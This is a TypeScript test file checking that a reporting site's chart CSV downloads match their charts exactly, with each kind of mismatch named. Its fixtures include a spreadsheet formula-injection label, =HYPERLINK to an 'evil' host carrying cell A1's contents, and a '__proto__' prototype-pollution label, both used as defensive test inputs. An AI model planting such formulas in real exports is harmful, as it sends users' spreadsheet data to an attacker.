/**
 * The build reads every chart's CSV download back and compares it with the
 * chart (CHECKLIST F3); each kind of difference is named.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { compareDownload, verifyDownloads } from '../../../src/lib/build/verify-downloads.ts';
import { chartCsv } from '../../../src/lib/chart/to-csv.ts';
import { engagementSpec, MICRO, series } from '../chart/spec-fixtures.ts';

const temp = mkdtempSync(join(tmpdir(), 'trendbook-downloads-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

// Labels a spreadsheet would run, a gap, a negative number, a midpoint with its range, and full precision.
const spec = engagementSpec({
  x: { column: 'year', label: 'Year', format: { type: 'year', decimals: 0 }, values: [2016, 2017, 2018], labels: ['2016', '2017', '2018'] },
  seriesColumn: 'label',
  series: [
    series('=HYPERLINK("http://evil/?"&A1,"Click")', 'formula', [0.1 + 0.2, null, -5], MICRO),
    series('__proto__', '__proto__', [1.25, 2.5, 3], { ...MICRO, ranges: [null, [2, 3], null] }),
  ],
});

describe('downloads read back', () => {
  it('match their chart exactly, with the formula prefix as the only change', () => {
    const text = chartCsv(spec);
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).toContain('0.30000000000000004');
    expect(compareDownload(text, spec)).toBeUndefined();
  });

  it('name every kind of difference', () => {
    const text = chartCsv(spec);
    expect(compareDownload(text.slice(1), spec)).toBe('no UTF-8 byte order mark (Excel would misread accents)');
    expect(compareDownload(text.replace(/\r\n/g, '\n'), spec)).toBe('a line ends in LF, not CRLF');
    expect(compareDownload(text.replace('0.30000000000000004', '0.3'), spec)).toBe(
      'row 2 is ["2016","=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")","0.3","reported","",""], expected ["2016","=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")","0.30000000000000004","reported","",""]',
    );
    expect(compareDownload(text.replace(/\r\n2018,__proto__[^\r]*/, ''), spec)).toBe('4 rows, expected 5 (one per point drawn)');
    expect(compareDownload(text.replace('year,label', 'label,year'), spec)).toBe(
      'header is ["label","year","engagement_rate","basis","range_low","range_high"], expected ["year","label","engagement_rate","basis","range_low","range_high"]',
    );
  });

  it('are all checked in a built folder, and a missing one is named', () => {
    const dir = join(temp, 'downloads', 'q3');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'engagement.csv'), chartCsv(spec));
    expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec] }])).toEqual([]);
    expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec, { ...spec, id: 'cost' }] }])).toEqual(['/downloads/q3/cost.csv: missing']);
  });
});
